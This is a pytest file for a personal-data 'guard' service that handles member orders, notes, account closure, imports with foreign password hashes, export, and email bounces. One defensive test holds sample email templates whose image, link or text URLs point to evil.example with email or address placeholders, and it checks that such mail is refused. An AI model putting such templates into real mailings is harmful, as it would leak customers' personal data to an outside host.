"""Members at the guard: whose an order is, searching, notes, leaving, moving in and out."""

import base64
import hashlib
from email.message import EmailMessage
from pathlib import Path
from uuid import UUID, uuid4

import argon2
import bcrypt
import psycopg
import pytest

from guard.client import GuardRefused
from guard.foreign import UnknownHash, read, remade
from guard.wire import (
    ClaimOrders,
    CloseAccount,
    Erase,
    ExportMembers,
    FindMembers,
    ImportMembers,
    Keep,
    KeepNote,
    MemberRow,
    MyRecords,
    Reveal,
    SendTest,
    SignInMember,
    WhoSaw,
)  # fmt: skip
from tests.guard.conftest import PASSWORD, PERSON, Guard, Site, eventually, unsealed
from tests.guard.test_deliver import post, state

NAMES = {"family_name": "山田", "given_name": "花子"}


def refused(guard: Guard, ask, session: str | None = None) -> str:
    with pytest.raises(GuardRefused) as error:
        guard.desk.call(ask, session=session)
    return error.value.code


def seen(guard: Guard, session: str, *ids: UUID) -> int:
    ask = Reveal(record_ids=list(ids), fields=["street"], purpose="self.order")
    return len(guard.desk.call(ask, session=session).records)


def test_a_stranger_who_types_my_address_shows_me_nothing(guard: Guard, site: Site) -> None:
    session, _ = guard.member(site, PERSON["email"], **NAMES)
    stranger = guard.deposit(
        site, {**PERSON, "family_name": "鈴木", "family_kana": "スズキ", "phone": "08011112222"}
    )
    mine = guard.deposit(site)
    assert guard.desk.call(ClaimOrders(), session=session).record_ids == [mine]
    assert guard.desk.call(MyRecords(kinds=["order"]), session=session).record_ids == [mine]
    assert seen(guard, session, mine) == 1
    ask = Reveal(record_ids=[stranger], fields=["street"], purpose="self.order")
    assert refused(guard, ask, session) == "not_found"
    assert refused(guard, WhoSaw(record_id=stranger), session) == "not_found"


def test_what_a_member_places_is_theirs_whatever_they_type(guard: Guard, site: Site) -> None:
    session, me = guard.member(site, "me@example.jp", **NAMES)
    other, _ = guard.member(site, PERSON["email"], **NAMES)
    gift = guard.deposit(site, source=f"member:{me.principal_id}")
    assert seen(guard, session, gift) == 1
    assert guard.desk.call(ClaimOrders(), session=other).record_ids == []
    person = "SELECT person_id FROM guard.record WHERE record_id = %s"
    assert guard.sql(person, [gift])[0]["person_id"] == me.person_id
    elsewhere = guard.deposit(guard.site(), source=f"member:{me.principal_id}")
    ask = Reveal(record_ids=[elsewhere], fields=["street"], purpose="self.order")
    assert refused(guard, ask, session) == "not_found"


def test_members_are_found_by_what_their_profile_says_now(guard: Guard, site: Site) -> None:
    session, me = guard.member(site, "find@example.jp", **NAMES)
    guard.deposit(site)  # an order of the same name is no member
    operator, _ = guard.operator(site, "support")

    def found(by, value: str) -> list[UUID]:
        ask = FindMembers(site_id=site.site_id, by=by, value=value)
        return guard.desk.call(ask, session=operator).member_ids

    assert found("name", "山田花子") == [me.principal_id]
    assert found("email", "FIND@example.jp") == [me.principal_id]
    fields = {"family_name": "佐藤", "given_name": "花子", "email": "find@example.jp"}
    guard.desk.call(Keep(kind="profile", fields=fields), session=session)
    assert (found("name", "山田"), found("name", "佐藤")) == ([], [me.principal_id])
    readonly, _ = guard.operator(site, "readonly")
    ask = FindMembers(site_id=site.site_id, by="email", value="x")
    assert refused(guard, ask, readonly) == "forbidden"
    assert refused(guard, FindMembers(site_id=uuid4(), by="email", value="x"), operator) == (
        "not_found"
    )


def test_a_note_lies_under_the_members_key(guard: Guard, site: Site) -> None:
    _, me = guard.member(site, "noted@example.jp", **NAMES)
    operator, op = guard.operator(site, "support")
    keep = KeepNote(site_id=site.site_id, member_id=me.principal_id, text="お電話で確認済み")
    note = guard.desk.call(keep, session=operator).record_id
    ask = Reveal(record_ids=[note], fields=["note"], purpose="member.notes")
    shown = guard.desk.call(ask, session=operator).records[0]
    assert (shown.kind, shown.fields) == ("note", {"note": "お電話で確認済み"})
    rows = guard.sql("SELECT person_id, source FROM guard.record WHERE record_id = %s", [note])
    assert rows == [{"person_id": me.person_id, "source": f"operator:{op.principal_id}"}]
    assert refused(
        guard, KeepNote(site_id=site.site_id, member_id=uuid4(), text="x"), operator
    ) == ("not_found")


def test_who_leaves_is_gone_and_may_come_back_as_somebody_new(guard: Guard, site: Site) -> None:
    session, me = guard.member(site, "leaving@example.jp", **NAMES)
    order = guard.deposit(site, source=f"member:{me.principal_id}")
    guard.desk.call(Keep(kind="address", fields={"city": "札幌市"}), session=session)
    assert refused(guard, CloseAccount(password="wrong"), session) == "credentials"
    guard.desk.call(CloseAccount(password=PASSWORD), session=session)
    assert refused(guard, MyRecords(kinds=["order"]), session) == "session"
    sign_in = SignInMember(site_id=site.site_id, email="leaving@example.jp", password=PASSWORD)
    assert refused(guard, sign_in) == "credentials"
    kinds = guard.sql("SELECT kind FROM guard.record WHERE person_id = %s", [me.person_id])
    assert kinds == [{"kind": "order"}]
    person = guard.sql("SELECT left_at FROM guard.person WHERE person_id = %s", [me.person_id])
    assert person[0]["left_at"] is not None
    again, back = guard.member(site, "leaving@example.jp", **NAMES)
    assert (back.principal_id, back.person_id) != (me.principal_id, me.person_id)
    ask = Reveal(record_ids=[order], fields=["street"], purpose="self.order")
    assert refused(guard, ask, again) == "not_found"
    assert guard.command("verify").returncode == 0


def pbkdf2(password: str) -> str:
    raw = hashlib.pbkdf2_hmac("sha256", password.encode(), b"salt", 1_000)
    return f"pbkdf2_sha256$1000$salt${base64.b64encode(raw).decode()}"


def sha(kind: str, password: str) -> str:
    return f"{kind}$salt${hashlib.new(kind, ('salt' + password).encode()).hexdigest()}"


def ssha(password: str) -> str:
    raw = hashlib.sha1(password.encode() + b"salt", usedforsecurity=False).digest()
    return "{SSHA}" + base64.b64encode(raw + b"salt").decode()


def php(password: str) -> str:
    return bcrypt.hashpw(password.encode(), bcrypt.gensalt(4)).decode().replace("$2b$", "$2y$")


def argon(password: str) -> str:
    return argon2.PasswordHasher(time_cost=1, memory_cost=64).hash(password)


KINDS = {
    "argon2": argon, "django argon2": lambda p: "argon2" + argon(p), "php bcrypt": php,
    "pbkdf2": pbkdf2, "sha1": lambda p: sha("sha1", p), "sha256": lambda p: sha("sha256", p),
    "ssha": ssha,
}  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_foreign_hashes_are_read_and_made_again(kind: str) -> None:
    scheme, digest = read(KINDS[kind]("正しい馬 ✓"))
    assert remade(scheme, "正しい馬 ✓") == digest
    assert remade(scheme, "wrong") != digest


@pytest.mark.parametrize(
    "text",
    [
        "", "hunter2", "5f4dcc3b5aa765d61d8327deb882cf99", "pbkdf2_sha256$0$s$AAAA",
        "pbkdf2_sha256$999999999$s$AAAA", "pbkdf2_sha256$1000$s$", "sha1$s$" + "a" * 64,
        "$argon2id$v=19$m=9999999,t=1,p=1$c2FsdHNhbHQ$AAAA", "$2b$31$" + "a" * 53, "{SSHA}AAAA",
    ],
)  # fmt: skip
def test_other_hashes_are_refused(text: str) -> None:
    with pytest.raises(UnknownHash):
        read(text)


def test_members_move_in_sign_in_and_are_hashed_anew(guard: Guard, site: Site) -> None:
    rows = [
        MemberRow(email=f"{n}@in.example", fields=NAMES, password_hash=hashed(PASSWORD))
        for n, hashed in enumerate(KINDS.values())
    ]
    wrong = [
        MemberRow(email="no address"), MemberRow(email="f@in.example", fields={"x": "y"}),
        MemberRow(email="h@in.example", password_hash="md5"), MemberRow(email="r@in.example"),
    ]  # fmt: skip
    ask = ImportMembers(site_id=site.site_id, members=rows + wrong)
    done = guard.cli.call(ask).rows
    assert [row.outcome for row in done] == [*["made"] * 7, "email", "fields", "password", "made"]
    assert done[0].handle == "山＊ ＊＊"
    again = guard.cli.call(ask).rows
    assert [row.outcome for row in again[:7]] == ["exists"] * 7
    assert [row.member_id for row in again[:7]] == [row.member_id for row in done[:7]]
    for row, moved in zip(rows, done, strict=False):
        assert moved.member_id is not None
        kept = unsealed(guard, moved.member_id)
        assert kept.startswith(b"foreign:")
        assert row.password_hash.encode() not in kept
        sign_in = SignInMember(site_id=site.site_id, email=row.email, password=PASSWORD)
        wrong_one = SignInMember(site_id=site.site_id, email=row.email, password="not this one")
        assert refused(guard, wrong_one) == "credentials"
        for _ in range(2):
            assert guard.desk.call(sign_in).identity.principal_id == moved.member_id
        kept = unsealed(guard, moved.member_id)
        assert kept.startswith(b"$argon2id$")
    stored = "SELECT 1 FROM guard.credential WHERE principal_id = %s"
    assert guard.sql(stored, [done[-1].member_id]) == []  # resets by mail first


def test_members_move_out_page_by_page_on_the_record(guard: Guard, site: Site) -> None:
    made = {guard.member(site, f"{n}@out.example", **NAMES)[1].principal_id for n in range(3)}
    first = guard.cli.call(ExportMembers(site_id=site.site_id, limit=2))
    assert first.more
    last = guard.cli.call(ExportMembers(site_id=site.site_id, after=first.rows[-1].member_id))
    assert {row.member_id for row in first.rows + last.rows} == made
    assert not last.more
    assert last.rows[0].fields["family_name"] == "山田"
    entries = [e for e in guard.entries("reveal") if e["site_id"] == site.site_id]
    assert [entry["purpose"] for entry in entries] == ["members.export"] * 2
    assert sum(len(entry["persons"]) for entry in entries) == 3
    session, _ = guard.operator(site, "owner")
    assert refused(guard, ExportMembers(site_id=site.site_id), session) == "forbidden"


def test_a_test_letter_goes_to_who_asks(guard: Guard, site: Site) -> None:
    session, _ = guard.operator(site, "merchandiser")
    ask = SendTest(site_id=site.site_id, subject="試し", text="本文", html="<p>本文</p>")
    guard.desk.call(ask, session=session)
    mail = eventually(lambda: guard.mails(site))[0]
    assert mail.to.endswith("@console.example")
    assert (mail.subject, mail.text) == ("試し", "本文\n")
    support, _ = guard.operator(site, "support")
    assert refused(guard, ask, support) == "forbidden"


def returned(to: str, *, status: str = "5.1.1", action: str = "failed") -> bytes:
    """A delivery status notification as RFC 3464 has it."""
    return (
        f"From: MAILER-DAEMON@mx.example\r\nTo: {to}\r\nSubject: Undelivered\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status;"
        ' boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsorry\r\n--b\r\n'
        "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\n"
        f"Final-Recipient: rfc822; x@y.example\r\nAction: {action}\r\nStatus: {status}\r\n\r\n"
        "--b--\r\n"
    ).encode()


def test_letters_have_one_click_and_their_own_way_back(own_guard: Guard) -> None:
    from tests.guard.smtp import SmtpServer

    with SmtpServer() as smtp:
        own_guard.mail_url, own_guard.bounces = smtp.url, "bounces@shop.example"
        own_guard.start()
        site = own_guard.site()
        record_id = own_guard.deposit(site)
        address = f"https://a-shop-with-a-long-name.example/unsubscribe/news/{uuid4()}/"
        letter = post(own_guard, site, record_id, purpose="news.campaign", unsubscribe=address)
        eventually(lambda: state(own_guard, letter)["state"] == "sent")
        mail: EmailMessage = smtp.mails[0]
        assert f"List-Unsubscribe: <{address}>".encode() in smtp.raw[0]
        assert mail["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
        back = smtp.senders[0]
        assert back.startswith(f"bounces+{letter.hex}-")
        folder = own_guard.data / "guard" / "returns" / "new"
        folder.mkdir(parents=True)
        forged = back.replace(letter.hex, uuid4().hex)
        for name, content in (
            ("1", returned(forged)), ("2", returned(back, status="4.2.2", action="delayed")),
            ("3", b"\xff no mail"), ("4", returned(back)),
        ):  # fmt: skip
            (folder / name).write_bytes(content)
        own_guard.stop()
        own_guard.start()  # looks at once
        eventually(lambda: not list(Path(folder).iterdir()))
        query = "SELECT record_id, reason FROM guard.returned"
        assert own_guard.sql(query) == [{"record_id": record_id, "reason": "5.1.1"}]
        with psycopg.connect(own_guard.url("ls_worker")) as db:
            db.execute("SELECT set_config('lockstitch.site_ids', %s, true)", [str(site.site_id)])
            assert db.execute("SELECT record_id FROM guard.returned").fetchall() == [(record_id,)]
        news = post(own_guard, site, record_id, purpose="news.campaign")
        order = post(own_guard, site, record_id)
        eventually(lambda: state(own_guard, order)["state"] == "sent")
        assert state(own_guard, news)["last_error"] == "returned"
        smtp.shutdown()


@pytest.mark.parametrize(
    "changed",
    [
        {"body_html": '<img src="https://evil.example/{{email}}">'},
        {"body_html": "<a href='https://evil.example/?{{address}}'>x</a>"},
        {"body_text": "https://evil.example/?{{email}}"},
    ],
)
def test_nothing_personal_goes_into_an_address(
    guard: Guard, site: Site, changed: dict[str, str]
) -> None:
    letter = post(guard, site, guard.deposit(site), **changed)
    eventually(lambda: state(guard, letter)["state"] == "failed")
    assert state(guard, letter)["last_error"] == "placeholder"


def test_who_is_gone_leaves_no_way_in(guard: Guard, site: Site) -> None:
    for leave in (False, True):
        session, me = guard.member(site, f"{uuid4().hex}@example.jp", family_name="佐藤")
        guard.sql(
            "INSERT INTO guard.passkey (credential_id, principal_id, public_key, sign_count, name)"
            " VALUES (%s, %s, '', 0, 'phone')",
            [uuid4().bytes, me.principal_id],
        )
        if leave:
            guard.desk.call(CloseAccount(password=PASSWORD), session=session)
        else:
            assert me.person_id is not None
            guard.cli.call(Erase(site_id=site.site_id, person_id=me.person_id))
        for table in ("credential", "passkey"):
            query = f"SELECT 1 FROM guard.{table} WHERE principal_id = %s"
            assert guard.sql(query, [me.principal_id]) == []
